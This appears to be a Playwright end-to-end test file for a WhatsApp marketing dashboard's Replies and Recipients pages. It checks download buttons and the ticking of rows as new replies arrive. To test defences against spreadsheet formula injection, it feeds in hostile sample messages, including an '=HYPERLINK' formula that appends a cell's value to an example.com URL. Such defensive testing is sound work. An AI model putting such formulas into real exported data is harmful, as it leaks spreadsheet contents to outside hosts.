"""The Replies list in a real browser: one way to download it, and ticks that stay on the people
ticked while replies come in. AppTest cannot see the table's own toolbar, which only the browser
draws, nor tick a row as the browser sends it."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

import pytest
from playwright.sync_api import expect
from sqlalchemy import Engine, select

from core.db import make_engine, migrate, transaction
from core.models import Blast, BlastRecipient, utcnow
from core.webhook.inbox import WebhookRules, process_entry, store_raw
from tests.support.browser import dashboard, wait_until_drawn
from tests.support.factories import make_blast
from tests.test_replies_page import _replied

ROW_PX = 35  # the height of the table's header and of each of its rows

pytestmark = pytest.mark.e2e


def _one_reply(data_dir: Path) -> None:
    engine = make_engine(f"sqlite:///{data_dir / 'blasts.db'}")
    migrate(engine)
    with transaction(engine) as s:
        blast = make_blast(s, name="Raya promo", state="completed", device="sandbox")
        _replied(s, blast, (dt.timedelta(minutes=30), "=1+1 berapa harga?"), contact_name="Aisyah",
                 sent_at=utcnow() - dt.timedelta(hours=1))
    engine.dispose()


def test_the_replies_list_downloads_from_the_page_not_from_the_table(browser, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """The table's toolbar had a "Download as CSV" of its own, of the page shown and with the
    reply as typed, beside the page's button of the same name."""
    _one_reply(tmp_path)
    with dashboard(tmp_path, {"RUN_WORKER": "false"}) as base:
        tab = browser.new_page(viewport={"width": 1400, "height": 1000})
        tab.goto(base + "/replies")
        tab.get_by_text("Download for Excel").wait_for(timeout=30_000)
        wait_until_drawn(tab)
        tab.get_by_test_id("stDataFrame").first.hover()
        tools = tab.get_by_test_id("stElementToolbarButton").locator("button")
        tools.filter(has=tab.locator("svg")).first.wait_for(timeout=10_000)
        shown = [tool.get_attribute("aria-label") for tool in tools.all() if tool.is_visible()]
        assert "Search" in shown, "the toolbar is drawn"
        assert not [label for label in shown if label.startswith("Download")], shown
        assert tab.get_by_role("button", name="Download as CSV").count() == 1, "the page's own"
        tab.close()


def _toolbar_labels(tab, table) -> list[str]:  # type: ignore[no-untyped-def]
    """The labels of the buttons the table's toolbar shows when the pointer is over it."""
    table.hover()
    tools = table.locator("xpath=ancestor::*[@data-testid='stElementContainer'][1]").get_by_test_id(
        "stElementToolbarButton").locator("button")
    tools.filter(has=tab.locator("svg")).first.wait_for(timeout=10_000)
    return [tool.get_attribute("aria-label") for tool in tools.all() if tool.is_visible()]


def test_tables_of_what_others_typed_offer_no_download_of_it_as_typed(browser, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A stranger's message starting with "=" in the table of messages no blast explains, and a
    list's cell on the blast's recipients table: each toolbar's "Download as CSV" had given the
    cell as typed, to run as a formula in Excel."""
    _one_reply(tmp_path)
    engine = make_engine(f"sqlite:///{tmp_path / 'blasts.db'}")
    stranger = {"type": "text", "message": '=HYPERLINK("http://example.com/?"&A1,"Promo")',
                "from": "60177770001@c.us", "timestamp": int(utcnow().timestamp())}
    with transaction(engine) as s:
        inbox_id = store_raw(s, body=json.dumps(stranger).encode(), content_type="application/json")
    with transaction(engine) as s:
        process_entry(s, inbox_id=inbox_id, rules=WebhookRules())
        blast_id = s.scalars(select(Blast.id)).one()
    engine.dispose()
    with dashboard(tmp_path, {"RUN_WORKER": "false"}) as base:
        tab = browser.new_page(viewport={"width": 1400, "height": 1000})
        tab.goto(base + "/replies")
        tab.get_by_text("from people no recent blast messaged").click()
        tab.get_by_text("They wrote to your WhatsApp number").wait_for(timeout=30_000)
        wait_until_drawn(tab)
        shown = _toolbar_labels(tab, tab.get_by_test_id("stDataFrame").nth(1))
        assert "Search" in shown and not [label for label in shown if label.startswith("Download")], shown
        tab.goto(f"{base}/blast?blast={blast_id}")
        tab.get_by_role("tab", name="Recipients").click()
        tab.get_by_text("page 1 of 1").wait_for(timeout=30_000)
        wait_until_drawn(tab)
        table = tab.get_by_test_id("stDataFrame").filter(has=tab.locator("[aria-rowcount]")).last
        shown = _toolbar_labels(tab, table)
        assert "Search" in shown and not [label for label in shown if label.startswith("Download")], shown
        tab.close()


def _tick_row(tab, row: int) -> None:  # type: ignore[no-untyped-def]
    """Tick a row by its box on the left of the table, drawn on a canvas with no element to click."""
    box = tab.get_by_test_id("stDataFrame").first.bounding_box()
    tab.mouse.click(box["x"] + 18, box["y"] + ROW_PX * (row + 1) + ROW_PX / 2)
    tab.wait_for_timeout(800)
    wait_until_drawn(tab)


def _ticked_names(tab) -> list[str]:  # type: ignore[no-untyped-def]
    """The names in the ticked rows, as the table tells screen readers."""
    rows = tab.get_by_test_id("stDataFrame").first.locator("tr[aria-selected='true']")
    return [row.locator("td[aria-colindex='2']").inner_text() for row in rows.all()]


def _newcomer(engine: Engine) -> int:
    with transaction(engine) as s:
        blast = s.scalars(select(Blast)).one()
        return _replied(s, blast, (dt.timedelta(0), "Still available?"), contact_name="Eddie",
                        phone_number="+60123456785").id


def test_a_reply_arriving_as_someone_is_ticked_leaves_the_tick_on_them(browser, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Eddie replies while the page is open; the marketer then ticks Aisyah, at the top of the
    list they see. The tick and the sale stay hers, and Eddie waits behind "Show them"."""
    engine = make_engine(f"sqlite:///{tmp_path / 'blasts.db'}")
    migrate(engine)
    with transaction(engine) as s:
        blast = make_blast(s, name="Raya promo", state="completed", device="sandbox")
        _replied(s, blast, (dt.timedelta(hours=2), "Ada stok?"), contact_name="Ben")
        aisyah = _replied(s, blast, (dt.timedelta(minutes=30), "Berapa harga?"), contact_name="Aisyah").id
    with dashboard(tmp_path, {"RUN_WORKER": "false"}) as base:
        tab = browser.new_page(viewport={"width": 1400, "height": 1000})
        tab.goto(base + "/replies")
        tab.get_by_text("Download for Excel").wait_for(timeout=30_000)
        wait_until_drawn(tab)
        eddie = _newcomer(engine)
        _tick_row(tab, 0)
        assert _ticked_names(tab) == ["Aisyah"]
        assert tab.get_by_text("The list changed since you ticked").count() == 0
        expect(tab.get_by_text("1 new reply")).to_be_visible(timeout=30_000)
        # Her number, a tap away on a phone.
        expect(tab.locator("a[href^='tel:+60']")).to_have_count(1, timeout=30_000)
        tab.get_by_role("button", name="Mark 1 as closed (sale)").click()
        expect(tab.get_by_text("1 person marked as closed (a sale).")).to_be_visible(timeout=30_000)
        tab.close()
    with transaction(engine) as s:
        assert [s.get(BlastRecipient, person).status for person in (aisyah, eddie)] == ["CLOSED", "REPLIED"]
    engine.dispose()
